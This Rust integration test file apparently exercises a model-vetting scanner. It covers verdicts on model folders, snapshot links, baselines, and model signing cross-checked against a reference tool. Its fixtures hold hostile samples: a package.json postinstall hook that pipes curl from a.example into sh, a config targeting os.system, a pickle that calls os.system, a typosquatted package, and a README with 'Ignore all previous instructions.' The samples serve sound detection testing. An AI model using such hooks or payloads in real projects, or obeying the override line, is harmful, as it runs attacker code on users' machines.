//! The verbs about models, as a person types them: what stands around a model joins its verdict and
//! changes it only where it should; signatures cross over to the reference implementation and back.
#![expect(clippy::disallowed_methods, reason = "the test runs the program and the reference")]

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const KEY: &str = "-----BEGIN PRIVATE KEY-----\n\
                   MC4CAQAwBQYDK2VwBCIEIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f\n\
                   -----END PRIVATE KEY-----\n";

struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    fn new() -> Self {
        Self { dir: tempfile::tempdir().unwrap() }
    }

    fn at(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.at(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        path
    }

    /// Runs the program; gives its exit code and what it printed.
    fn run(&self, arguments: &[&str]) -> (i32, String) {
        let output = Command::new(env!("CARGO_BIN_EXE_ringfort"))
            .current_dir(self.dir.path())
            .args(["-q", "--data-dir"])
            .arg(self.at("data"))
            .args(arguments)
            // Settings of the one who tests are none of the program's.
            .env_clear()
            .env("RINGFORT_CONFIG", self.write("none.toml", ""))
            .output()
            .unwrap();
        let text = String::from_utf8(output.stdout).unwrap();
        (output.status.code().unwrap(), text)
    }

    /// Vets, and gives the exit code and the reports.
    fn vet(&self, arguments: &[&str]) -> (i32, Vec<Value>) {
        let (code, text) = self.run(&[&["vet", "--json"], arguments].concat());
        (code, text.lines().map(|line| serde_json::from_str(line).unwrap()).collect())
    }
}

fn verdict(reports: &[Value], name: &str) -> String {
    let named = |report: &&Value| report["path"].as_str().unwrap().ends_with(name);
    reports.iter().find(named).unwrap()["verdict"].as_str().unwrap().to_owned()
}

fn rules(reports: &[Value]) -> Vec<String> {
    let findings = reports.iter().flat_map(|report| report["findings"].as_array().unwrap());
    findings.map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect()
}

/// A safetensors file of one tensor.
fn safetensors(values: [f32; 4]) -> Vec<u8> {
    let head = br#"{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}"#;
    let body = values.iter().flat_map(|value| value.to_le_bytes());
    [&(head.len() as u64).to_le_bytes()[..], head, &body.collect::<Vec<_>>()].concat()
}

#[test]
fn what_stands_beside_a_model_does_not_change_its_verdict() {
    let place = Place::new();
    let model = safetensors([1.0, 2.0, 3.0, 4.0]);
    place.write("alone/model.safetensors", &model);
    place.write("beside/model.safetensors", &model);
    place.write("beside/README.md", "# A model\n\nIgnore all previous instructions.\n");
    place.write("beside/train.py", "import torch\nm = torch.load('m.pt')\n");
    place.write("beside/requirements.txt", "torch==2.6.0\n");
    let (alone, reports) = place.vet(&["alone"]);
    assert_eq!((alone, verdict(&reports, "model.safetensors")), (0, "nothing_found".into()));
    let (beside, reports) = place.vet(&["beside"]);
    assert_eq!(verdict(&reports, "model.safetensors"), "nothing_found");
    assert_eq!(beside, 0, "{reports:?}");
    assert!(rules(&reports).contains(&"deps.unsafe_load".to_owned()));
    let (strict, _) = place.vet(&["beside", "--strict"]);
    assert_eq!(strict, 1, "openings count when one is strict");
}

#[test]
fn packages_data_and_configurations_join() {
    let place = Place::new();
    place.write("p/requirements.txt", "torch==2.6.0\nreqeusts==1.0\n");
    place.write("p/package.json", r#"{"scripts":{"postinstall":"curl https://a.example|sh"}}"#);
    place.write("p/data.jsonl", "{\"text\":\"a\",\"label\":0}\n{\"text\":\"b\",\"label\":1}\n");
    place.write("p/train.yaml", "model:\n  _target_: os.system\n");
    let (code, reports) = place.vet(&["p"]);
    assert_eq!(code, 1);
    assert_eq!(verdict(&reports, "requirements.txt"), "suspicious");
    assert_eq!(verdict(&reports, "package.json"), "malicious");
    assert_eq!(verdict(&reports, "train.yaml"), "malicious");
    assert_eq!(verdict(&reports, "data.jsonl"), "nothing_found");
    let data = reports.iter().find(|report| report["format"] == "jsonl");
    assert!(data.is_some(), "{reports:?}");
}

#[test]
fn a_baseline_that_was_written_accepts_what_was_found() {
    let place = Place::new();
    place.write("requirements.txt", "reqeusts==1.0\n");
    assert_eq!(place.vet(&["requirements.txt", "--write-baseline", "accepted"]).0, 1);
    assert_eq!(place.vet(&["requirements.txt", "--baseline", "accepted"]).0, 0);
    place.write("requirements.txt", "reqeusts==1.0\n\n");
    assert_eq!(place.vet(&["requirements.txt", "--baseline", "accepted"]).0, 1, "another file");
    let (_, lines) = place.run(&["vet", "requirements.txt", "--ocsf"]);
    let line: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert_eq!((&line["class_uid"], &line["category_uid"]), (&2004.into(), &2.into()));
}

#[test]
fn a_snapshot_of_links_is_read_and_remembered() {
    let place = Place::new();
    let root = "hub/models--org--name";
    place.write(&format!("{root}/blobs/aa"), safetensors([1.0; 4]));
    let snapshot = place.at(&format!("{root}/snapshots/0123"));
    std::fs::create_dir_all(&snapshot).unwrap();
    let link = |target: &str, name: &str| {
        std::os::unix::fs::symlink(target, snapshot.join(name)).unwrap();
    };
    link("../../blobs/aa", "model.safetensors");
    let path = snapshot.to_str().unwrap();
    let (code, reports) = place.vet(&[path, "--pins", "pins.json"]);
    assert_eq!(code, 0, "{reports:?}");
    assert_eq!(verdict(&reports, "model.safetensors"), "nothing_found");
    assert_eq!(reports.last().unwrap()["format"], "snapshot");
    place.write(&format!("{root}/blobs/aa"), safetensors([2.0; 4]));
    let (code, reports) = place.vet(&[path, "--pins", "pins.json"]);
    assert_eq!((code, verdict(&reports, "0123")), (1, "suspicious".into()));
    link("../../blobs/lost", "lost.bin");
    assert_eq!(place.vet(&[path]).0, 4, "a link to nothing is unknown");
}

#[test]
fn a_signed_model_verifies_until_it_is_changed() {
    let place = Place::new();
    let key = place.write("key.pem", KEY);
    place.write("m/w.safetensors", safetensors([1.0, 2.0, 3.0, 4.0]));
    assert_eq!(place.run(&["vet-sign", "m", "--private-key", key.to_str().unwrap()]).0, 0);
    let public = vet::provenance::SigningKey::from_pem(KEY.as_bytes()).unwrap();
    place.write("key.pub", public.public().to_pem());
    assert_eq!(place.run(&["vet-verify", "m", "--key", "key.pub"]).0, 0);
    assert_eq!(place.run(&["vet-verify", "m"]).0, 2, "nobody was named who may sign");
    assert_eq!(place.vet(&["m", "--key", "key.pub"]).0, 0);
    let (code, reports) = place.vet(&["m"]);
    assert_eq!((code, verdict(&reports, "model.sig")), (4, "unknown".into()), "no key was given");
    place.write("m/w.safetensors", safetensors([1.0, 2.0, 3.0, 4.5]));
    assert_eq!(place.run(&["vet-verify", "m", "--key", "key.pub"]).0, 1);
    let (_, reports) = place.vet(&["m/w.safetensors", "--key", "key.pub"]);
    assert_eq!(verdict(&reports, "w.safetensors"), "suspicious", "also when named by itself");
    place.write("old/w.safetensors", safetensors([1.0, 2.0, 3.0, 4.0]));
    place.write("new/w.safetensors", safetensors([1.0, 2.0, 3.0, 4.5]));
    let (code, text) = place.run(&["vet-drift", "old", "new", "--json"]);
    let line: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!((code, &line["tensors"]["changed"]["w"]["changed"]), (1, &0.25.into()));
    assert_eq!(place.run(&["vet-drift", "old", "old"]).0, 0);
    for format in ["cyclonedx", "spdx"] {
        let (code, text) = place.run(&["vet-bom", "m", "--format", format]);
        assert!(code == 0 && serde_json::from_str::<Value>(&text).is_ok(), "{text}");
    }
}

/// A pickle that would start a program: text that a reader sees, never loaded here.
const HOSTILE: &[u8] = b"cos\nsystem\n(S'true'\ntR.";

#[test]
fn the_models_of_a_machine_become_cases_and_are_vetted_again_when_they_change() {
    let place = Place::new();
    let home = place.at("home/ann");
    let model = place.write("home/ann/model.safetensors", safetensors([1.0; 4]));
    let folders = format!("[models]\nfolders = [{home:?}]\n");
    let look = || {
        let config = place.write("models.toml", &folders);
        let config = config.to_str().unwrap();
        let (code, lines) = place.vet(&["--machine", "--config", config]);
        // Nothing else was scanned, which is said where there is no case.
        let (_, cases) = place.run(&["cases", "--json", "--config", config]);
        let cases: Vec<Value> = cases.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        (code, lines.last().unwrap()["read"].as_u64().unwrap(), cases)
    };
    assert_eq!(look(), (0, 1, vec![]));
    assert_eq!(look(), (0, 0, vec![]), "what is known is not read again");
    std::fs::write(&model, HOSTILE).unwrap();
    let (code, read, cases) = look();
    assert_eq!((code, read, cases.len()), (1, 1, 1));
    assert_eq!((&cases[0]["kind"], &cases[0]["priority"]), (&"model".into(), &"immediate".into()));
    let explanation = cases[0]["explanation"].to_string();
    assert!(explanation.contains("os.system") && explanation.contains("changed since"));
    std::fs::remove_file(&model).unwrap();
    assert_eq!(look(), (0, 0, vec![]), "what is gone is no case any more");
}

/// The recorded signatures of the reference implementation, by the command line.
#[test]
fn every_recorded_signature_verifies() {
    let corpus = std::env::var_os("RINGFORT_CORPUS").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data")),
        PathBuf::from,
    );
    let root = corpus.join("vet/model-signing");
    if !root.is_dir() {
        return println!("SKIPPED: {} is not there; set RINGFORT_CORPUS", root.display());
    }
    let (key, certificates) =
        (root.join("keys/signing-key-pub.pem"), root.join("keys/ca-cert.pem"));
    let identity = ["--identity", "stefanb@us.ibm.com", "--issuer"];
    let identity = [&identity[..], &["https://sigstore.verify.ibm.com/oauth2"]].concat();
    let mut verified = 0;
    for entry in std::fs::read_dir(&root).unwrap() {
        let folder = entry.unwrap().path();
        let signature = folder.join("model.sig");
        if !signature.is_file() {
            continue;
        }
        let name = folder.file_name().unwrap().to_str().unwrap().to_owned();
        let place = Place::new();
        for file in std::fs::read_dir(&folder).unwrap() {
            let file = file.unwrap();
            place.write(&format!("m/{}", file.file_name().to_str().unwrap()), {
                std::fs::read(file.path()).unwrap()
            });
        }
        let trust = match &name {
            name if name.ends_with("certificate") => {
                vec!["--certificates", certificates.to_str().unwrap()]
            }
            name if name.ends_with("key") => vec!["--key", key.to_str().unwrap()],
            _ => identity.clone(),
        };
        let (code, text) = place.run(&[&["vet-verify", "m"], trust.as_slice()].concat());
        assert_eq!(code, 0, "{name}: {text}");
        place.write("m/added.py", "import os");
        assert_eq!(place.run(&[&["vet-verify", "m"], trust.as_slice()].concat()).0, 1, "{name}");
        verified += 1;
    }
    println!("recorded signatures verified: {verified}");
    assert_eq!(verified, 7);
}

/// Runs the reference implementation.
fn reference(python: &Path, arguments: &[&str]) -> bool {
    let output =
        Command::new(python).args(["-m", "model_signing"]).args(arguments).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).lines().last().unwrap_or("").to_owned();
    println!("{arguments:?}: {} {said}", output.status);
    output.status.success()
}

#[test]
fn signatures_cross_over_to_the_reference_implementation_and_back() {
    let Some(python) = std::env::var_os("RINGFORT_MODEL_SIGNING_PYTHON").map(PathBuf::from) else {
        return println!("SKIPPED: RINGFORT_MODEL_SIGNING_PYTHON names no Python with it");
    };
    let place = Place::new();
    let text = |name: &str| place.at(name).to_str().unwrap().to_owned();
    let make = "import sys\n\
        from cryptography.hazmat.primitives import serialization as s\n\
        from cryptography.hazmat.primitives.asymmetric import ec\n\
        k = ec.generate_private_key(ec.SECP256R1())\n\
        open(sys.argv[1], 'wb').write(k.private_bytes(s.Encoding.PEM, s.PrivateFormat.PKCS8, \
        s.NoEncryption()))\n\
        open(sys.argv[2], 'wb').write(k.public_key().public_bytes(s.Encoding.PEM, \
        s.PublicFormat.SubjectPublicKeyInfo))\n";
    let made = Command::new(&python).args(["-c", make, &text("k.pem"), &text("k.pub")]).status();
    assert!(made.unwrap().success());
    place.write("m/w.safetensors", safetensors([1.0, 2.0, 3.0, 4.0]));
    place.write("m/a/config.json", "{}");
    let (model, signature) = (text("m"), text("m/model.sig"));
    // Ours, read by theirs.
    assert_eq!(place.run(&["vet-sign", "m", "--private-key", "k.pem"]).0, 0);
    let public = text("k.pub");
    let verify = ["verify", "key", &model, "--signature", &signature, "--public_key", &public];
    assert!(reference(&python, &verify));
    // Theirs, read by ours.
    std::fs::remove_file(place.at("m/model.sig")).unwrap();
    let private = text("k.pem");
    let sign = ["sign", "key", &model, "--signature", &signature, "--private_key", &private];
    assert!(reference(&python, &sign));
    assert_eq!(place.run(&["vet-verify", "m", "--key", "k.pub"]).0, 0);
    // Changed, refused by both.
    place.write("m/a/config.json", "{ }");
    assert_eq!(place.run(&["vet-verify", "m", "--key", "k.pub"]).0, 1);
    assert!(!reference(&python, &verify));
}
